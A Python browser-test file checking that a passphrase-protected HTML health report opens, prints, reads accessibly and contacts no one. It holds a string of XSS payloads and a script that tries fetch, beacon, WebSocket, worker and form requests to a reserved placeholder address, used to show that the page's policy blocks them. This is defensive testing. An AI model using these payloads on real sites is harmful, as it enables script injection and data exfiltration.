"""The web page in a real browser, from a local file: it opens, it reads, it prints, and it reaches nobody."""

from __future__ import annotations

import json
import re
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from integrate.sharing.report import Chart, Facts, Grid, Heading, Lines, Paragraph, Quote, Report, Words
from integrate.sharing.web import web_page
from integrate.sharing.web_sealing import sealed
from tests.helpers.chromium import Browser, Tab, browser
from tests.helpers.secret_service import need
from tests.sharing.samples import report_of_text, report_with, said, sarahs_report, theirs

PHRASE = "café gravel onward pantry sixth mango"
TYPED = "cafe\u0301\u00a0gravel onward pantry sixth\u3000mango"
"""The same phrase as another keyboard writes it."""
ELSEWHERE = "http://192.0.2.1:9/"  # an address that is nobody's (RFC 5737)
OPENED = "!document.getElementById('room').hidden"
SAID = "document.getElementById('said').textContent"
FOCUSED = "document.activeElement.id || document.activeElement.tagName"

HOSTILE = (
    "<script>window.reached = 1</script><img src=x onerror='window.reached = 1'><svg onload='window.reached = 1'>"
    '</main></template><iframe srcdoc=\'<script>parent.reached = 1</script>\'></iframe>" autofocus onfocus="reached=1"'
    " <a href='javascript:window.reached = 1'>javascript:window.reached = 1</a> {{script}} &lt;script&gt;"
)

ATTEMPTS = """
(() => {
  const place = %s;
  const put = (name, values) => document.body.append(Object.assign(document.createElement(name), values));
  const ways = {
    fetch: () => fetch(place + "fetch"),
    xhr: () => { const asked = new XMLHttpRequest(); asked.open("GET", place + "xhr"); asked.send(); },
    socket: () => new WebSocket(place.replace("http", "ws") + "socket"),
    events: () => new EventSource(place + "events"),
    beacon: () => navigator.sendBeacon(place + "beacon", "words"),
    image: () => { new Image().src = place + "image"; },
    module: () => import(place + "module"),
    worker: () => new Worker(URL.createObjectURL(new Blob(["fetch('" + place + "worker')"]))),
    script: () => put("script", { src: place + "script" }),
    inline: () => put("script", { textContent: "window.reached = 'inline'" }),
    handler: () => { put("b", { id: "b" }); b.setAttribute("onclick", "window.reached = 'handler'"); b.click(); },
    evaluated: () => new Function("window.reached = 'evaluated'")(),
    style: () => put("link", { rel: "stylesheet", href: place + "style" }),
    font: () => new FontFace("x", "url(" + place + "font)").load(),
    frame: () => put("iframe", { src: place + "frame" }),
    object: () => put("object", { data: place + "object" }),
    sound: () => new Audio(place + "sound").load(),
    form: () => { put("form", { id: "f", action: place + "form", target: "_blank" }); f.submit(); },
  };
  window.refused = [];
  document.addEventListener("securitypolicyviolation", (event) => refused.push(event.violatedDirective));
  for (const way of Object.values(ways)) {
    try { Promise.resolve(way()).catch(() => null); } catch (problem) { }
  }
  return new Promise((done) => setTimeout(done, 400));
})()
""" % json.dumps(ELSEWHERE)  # noqa: UP031 - the script is full of braces

CUT_OFF = """
[...document.querySelectorAll("body *")].filter((one) => {
  const box = one.getBoundingClientRect();
  if (!box.width || !box.height || one.closest(".sheet, .drawing, caption")) { return false; }
  const hides = getComputedStyle(one).overflowX !== "visible" && one.scrollWidth > one.clientWidth + 1;
  return box.right > innerWidth + 1 || box.left < -1 || (hides && !one.matches("input, .facts"));
}).map((one) => one.outerHTML.slice(0, 80))
"""
OUT_OF_REACH = """
[...document.querySelectorAll(".sheet, .drawing")].filter(
  (one) => one.scrollWidth > one.clientWidth && getComputedStyle(one).overflowX !== "auto"
).length
"""

TEXT_OUT = """
((svg) => {
  const room = svg.getBoundingClientRect();
  return [...svg.querySelectorAll("text")].some((one) => {
    const box = one.getBoundingClientRect();
    return box.left < room.left - 2 || box.right > room.right + 2;
  });
})
"""
LEFT_SIDES = """
[...document.querySelectorAll("section p")[1].childNodes].map((one) => {
  const room = document.createRange();
  room.selectNode(one);
  return room.getBoundingClientRect().left;
})
"""


@pytest.fixture(scope="module")
def chromium(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
    """One browser for all tests of this file."""
    with browser(tmp_path_factory.mktemp("profile")) as started:
        yield started


@pytest.fixture
def tab(chromium: Browser) -> Iterator[Tab]:
    """An empty tab."""
    made = chromium.tab()
    yield made
    made.close()


@pytest.fixture(scope="module")
def sarahs_page(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Sarah's report behind the passphrase."""
    file = tmp_path_factory.mktemp("pages") / "summary.html"
    file.write_bytes(web_page(sarahs_report(), PHRASE))
    return file


def unlock(tab: Tab, file: Path) -> None:
    """Open a page with its passphrase."""
    tab.open(file)
    tab.value("document.getElementById('field').focus()")
    tab.type(PHRASE)
    tab.press("Enter")
    tab.wait_for(OPENED)


def requests(tab: Tab) -> list[str]:
    """What the tab asked for from anywhere, without what its policy refused before it left.

    Pictures that are their own address are those of the browser's page "this was blocked", in a frame.
    """
    refused = {
        event["params"]["requestId"]
        for event in tab.events("Network.loadingFailed")
        if event["params"].get("blockedReason") == "csp"
    }
    sent = [
        event["params"]["request"]["url"]
        for event in tab.events("Network.requestWillBeSent")
        if event["params"]["requestId"] not in refused and not event["params"]["request"]["url"].startswith("data:")
    ]
    return sent + [event["params"]["url"] for event in tab.events("Network.webSocketCreated")]


def texts(report: Report) -> Iterator[str]:
    """What a reader of the page sees, without the words of its charts."""
    yield from (report.title, report.subtitle, *report.period, report.foot, report.running)
    for block in report.blocks:
        match block:
            case Heading():
                yield block.words.text
            case Paragraph():
                yield from re.split(r"\n\s*", "".join(words.text for words in block.words))
            case Lines():
                yield from (line.text for line in block.lines)
            case Quote():
                yield from (block.words, block.source)
            case Facts():
                yield from (text for pair in block.pairs for text in pair)
            case Grid():
                yield from (*block.headings, *(words.text for row in block.rows for words in row))


def squeezed(text: str) -> str:
    return "".join(text.split())


def test_with_the_keyboard_alone_it_is_opened_read_and_closed(tab: Tab, sarahs_page: Path) -> None:
    tab.open(sarahs_page)
    assert tab.value("[isSecureContext, document.getElementById('cannot').hidden]") == [True, True]
    tab.press("Tab")
    assert tab.value(FOCUSED) == "field"
    tab.type("tulip gravel")
    tab.press("Enter")
    tab.wait_for(f"{SAID}.startsWith('This passphrase does not open the page.')")
    assert tab.value("[field.value, field.getAttribute('aria-invalid'), field.type]") == [
        "tulip gravel", "true", "password",
    ]  # fmt: skip
    assert tab.value(FOCUSED) == "field"
    tab.press("Tab")
    tab.press(" ")
    assert tab.value("[field.type, field.value]") == ["text", "tulip gravel"]
    tab.press("Tab", shift=True)
    tab.value("field.select()")
    tab.type(TYPED)
    tab.press("Tab")
    tab.press("Tab")
    assert tab.value(FOCUSED) == "open"
    tab.press("Enter")
    tab.wait_for(OPENED)
    assert tab.value(FOCUSED) == "H1"
    assert tab.value("[document.title, field.value, field.type, document.getElementById('door').hidden]") == [
        "integrate", "", "password", True,
    ]  # fmt: skip
    seen = squeezed(tab.value("document.getElementById('text').innerText"))
    for words in texts(sarahs_report()):
        assert squeezed(words) in seen
    tab.press("Tab", shift=True)
    assert tab.value(FOCUSED) == "close"
    tab.press("Enter")
    assert tab.value(SAID) == "The page is closed. Its words are gone from this window."
    assert tab.value(FOCUSED) == "field"
    assert not tab.value("document.documentElement.outerHTML.includes('choir')")
    assert tab.value("[localStorage.length, sessionStorage.length, document.cookie]") == [0, 0, ""]
    assert requests(tab) == [sarahs_page.as_uri()]
    assert not tab.events("Log")
    assert not tab.events("Runtime.exceptionThrown")


def test_leaving_the_page_forgets_it(tab: Tab, sarahs_page: Path, tmp_path: Path) -> None:
    unlock(tab, sarahs_page)
    other = tmp_path / "other.html"
    other.write_text("<title>other</title>")
    tab.open(other)
    tab.value("void setTimeout(() => history.back(), 0)")  # the answer comes before the page goes
    tab.wait_for(f"location.href === {json.dumps(sarahs_page.as_uri())} && document.readyState === 'complete'")
    assert tab.value("[document.getElementById('text').innerHTML, document.getElementById('field').value]") == ["", ""]


def test_both_kinds_of_page_say_the_same(tab: Tab, sarahs_page: Path, tmp_path: Path) -> None:
    unlock(tab, sarahs_page)
    protected = tab.value("document.querySelector('main.report').innerText")
    plain = tmp_path / "plain.html"
    plain.write_bytes(web_page(sarahs_report(), None))
    tab.open(plain)
    assert tab.value("document.querySelector('main.report').innerText") == protected
    assert tab.value("document.scripts.length") == 0


@pytest.mark.parametrize("protected", [True, False])
def test_no_way_leads_out_of_the_page(tab: Tab, tmp_path: Path, protected: bool) -> None:
    file = tmp_path / "page.html"
    file.write_bytes(web_page(sarahs_report(), PHRASE if protected else None))
    if protected:
        unlock(tab, file)
    else:
        tab.open(file)
    tab.value(ATTEMPTS)
    assert requests(tab) == [file.as_uri()]
    assert not tab.value("window.reached")
    refused = set(tab.value("refused"))
    assert {"connect-src", "img-src", "font-src", "frame-src", "object-src", "media-src", "form-action"} <= refused
    assert {"script-src-elem", "script-src-attr", "script-src", "style-src-elem", "worker-src"} <= refused


def test_without_the_policy_the_same_ways_lead_out(tab: Tab, tmp_path: Path) -> None:
    file = tmp_path / "page.html"
    page = web_page(sarahs_report(), None).decode()
    file.write_text(re.sub(r"<meta http-equiv=[^>]*>", "", page), encoding="utf-8")
    tab.open(file)
    tab.value(ATTEMPTS)
    sent = {url.removeprefix(ELSEWHERE) for url in requests(tab)}
    assert {"fetch", "xhr", "beacon", "image", "script", "style", "font", "module"} <= sent
    assert tab.value("window.reached")


def test_nothing_that_a_person_wrote_is_run(tab: Tab, tmp_path: Path) -> None:
    file = tmp_path / "page.html"
    file.write_bytes(web_page(report_of_text(HOSTILE), PHRASE))
    unlock(tab, file)
    tags = "document.querySelectorAll('#text script, #text img, #text iframe, #text a, #text [onfocus]').length"
    assert tab.value(f"[{tags}, window.reached === undefined]") == [0, True]
    assert tab.value("document.querySelector('#text h1').textContent") == HOSTILE
    assert tab.value("document.querySelector('#text blockquote p').textContent") == HOSTILE
    assert tab.value("document.querySelectorAll('main.report').length") == 1
    plain = tmp_path / "plain.html"
    plain.write_bytes(web_page(report_of_text(HOSTILE), None))
    tab.open(plain)
    assert tab.value("[document.title, window.reached === undefined]") == [HOSTILE, True]
    assert requests(tab) == [file.as_uri(), plain.as_uri()]
    assert not tab.events("Log")


def test_even_markup_inside_of_the_seal_is_not_run(tab: Tab, tmp_path: Path) -> None:
    """The page does not lean on the escaping alone: what is decrypted is put in as a document that runs nothing."""
    file = tmp_path / "page.html"
    inside = f'<main class="report"><h1 tabindex="-1" onfocus="window.reached = 1">x</h1>{HOSTILE}</main>'
    page = web_page(report_with(), PHRASE).decode()
    file.write_text(
        re.sub('(?<=id="sealed">)[^<]*', lambda _old: sealed(inside, PHRASE), page), encoding="utf-8"
    )  # fmt: skip
    unlock(tab, file)
    assert tab.value("document.querySelectorAll('#text script, #text img').length") == 2
    tab.value("document.querySelector('#text h1').focus(), document.querySelector('#text a')?.click()")
    assert tab.value("window.reached === undefined")
    assert requests(tab) == [file.as_uri()]


def test_it_fits_into_a_narrow_window_and_a_large_zoom(tab: Tab, sarahs_page: Path, tmp_path: Path) -> None:
    endless = tmp_path / "endless.html"
    endless.write_bytes(web_page(report_of_text("Donaudampfschifffahrt" * 40), PHRASE))
    for file in (sarahs_page, endless):
        tab.size(360, 740)
        tab.open(file)
        assert not tab.value(CUT_OFF)
        unlock(tab, file)
        for width, zoom in ((360, 1), (1280, 2), (320, 1)):
            tab.size(width, 900, zoom)
            assert not tab.value(CUT_OFF)
            assert not tab.value(OUT_OF_REACH)
            assert tab.value("document.documentElement.scrollWidth <= innerWidth")


def test_a_screen_reader_is_told_what_everything_is(tab: Tab, sarahs_page: Path) -> None:
    tab.open(sarahs_page)
    closed = tab.told()
    assert {("textbox", "Passphrase"), ("button", "Open"), ("checkbox", "Show what I type")} <= set(closed)
    assert ("heading", "This page opens with a passphrase") in closed
    unlock(tab, sarahs_page)
    told = tab.told()
    assert [name for role, name in told if role == "heading"] == [
        sarahs_report().title, *(block.words.text for block in sarahs_report().blocks if isinstance(block, Heading)),
    ]  # fmt: skip
    assert ("table", "Sessions, with side effects and mood") in told
    assert ("region", "Sessions, with side effects and mood") in told
    assert {("columnheader", "Side effects noted"), ("columnheader", "Insight"), ("rowheader", "4")} <= set(told)
    pictures = [name for role, name in told if role == "image"]
    assert pictures == ["PHQ-9, 0 to 27", "GAD-7, 0 to 21", "Mood"]
    assert [role for role, _name in told].count("DisclosureTriangle") == 3
    assert "main" in {role for role, _name in told}


def test_it_prints_with_all_its_words(tab: Tab, sarahs_page: Path, tmp_path: Path) -> None:
    need("pdftotext")
    unlock(tab, sarahs_page)
    paper = tmp_path / "paper.pdf"
    paper.write_bytes(tab.printed())
    pages = [squeezed(page) for page in pdf_text(paper).split("\f")[:-1]]
    assert len(pages) >= 3  # two of its parts begin a page
    for words in " ".join(texts(sarahs_report())).split():
        assert not words.isascii() or words in "".join(pages)  # there may be no font for the others here
    for page in pages:
        assert "Writtenbythepatient.Notmonitored." in page
        assert "Sarah,2026-10-08" in page
    assert "Close" not in "".join(pages)
    tab.value("document.getElementById('close').click()")
    paper.write_bytes(tab.printed())
    assert "Sarah" not in pdf_text(paper)


def pdf_text(file: Path) -> str:
    return subprocess.run(["pdftotext", file, "-"], capture_output=True, text=True, check=True).stdout


def test_a_browser_that_cannot_is_told_so(chromium: Browser, sarahs_page: Path, tmp_path: Path) -> None:
    old = chromium.tab(before="Object.defineProperty(Crypto.prototype, 'subtle', { value: undefined })")
    old.open(sarahs_page)
    assert old.value("document.getElementById('cannot').innerText").startswith("This browser cannot open the page.")
    assert old.value("document.getElementById('open').disabled")
    old.close()
    bare = chromium.tab()
    bare.ask("Emulation.setScriptExecutionDisabled", value=True)
    bare.open(sarahs_page)
    assert "JavaScript is turned off here." in " ".join(name for _role, name in bare.told())
    bare.close()


def test_half_a_file_says_that_a_part_is_missing(tab: Tab, sarahs_page: Path, tmp_path: Path) -> None:
    page = sarahs_page.read_bytes()
    file = tmp_path / "half.html"
    for kept in (page.index(b'id="sealed">') + 21, page.index(b"<template")):
        file.write_bytes(page[:kept])
        tab.open(file)
        tab.value("document.getElementById('field').focus()")
        tab.type(PHRASE)
        tab.press("Enter")
        tab.wait_for(f"{SAID} === 'Part of this file is missing. Ask for it once more.'")


def test_words_from_the_right_begin_at_the_right(tab: Tab, tmp_path: Path) -> None:
    file = tmp_path / "page.html"
    hebrew = "זה היה בוקר שקט"
    blocks = (Paragraph(theirs(hebrew)), Paragraph((Words("Wrote "), Words(f"\u202e{hebrew}", True), Words(" twice."))))
    file.write_bytes(web_page(report_with(*blocks, Lines(said("plain"))), None))
    tab.open(file)
    directions = "[...document.querySelectorAll('section p, bdi')].map((one) => getComputedStyle(one).direction)"
    assert tab.value(directions) == ["rtl", "ltr", "rtl"]
    lefts = tab.value(LEFT_SIDES)
    assert len(lefts) == 3
    assert lefts == sorted(lefts)  # what follows the person's words is not turned around by them


def test_in_a_report_from_the_right_charts_stay_as_drawn_and_lists_within_the_page(tab: Tab, tmp_path: Path) -> None:
    file = tmp_path / "page.html"
    charts = [block for block in sarahs_report().blocks if isinstance(block, Chart)]
    file.write_bytes(web_page(report_with(*charts, Lines(theirs("plain", "שלום")), language="he"), None))
    tab.open(file)
    assert tab.value(f"[...document.querySelectorAll('.drawing svg')].filter({TEXT_OUT}).length") == 0
    sides = "[...document.querySelectorAll('li')].map((one) => innerWidth - one.getBoundingClientRect().right)"
    assert len(set(tab.value(sides))) == 1
    assert tab.value("getComputedStyle(document.querySelector('li')).direction") == "rtl"
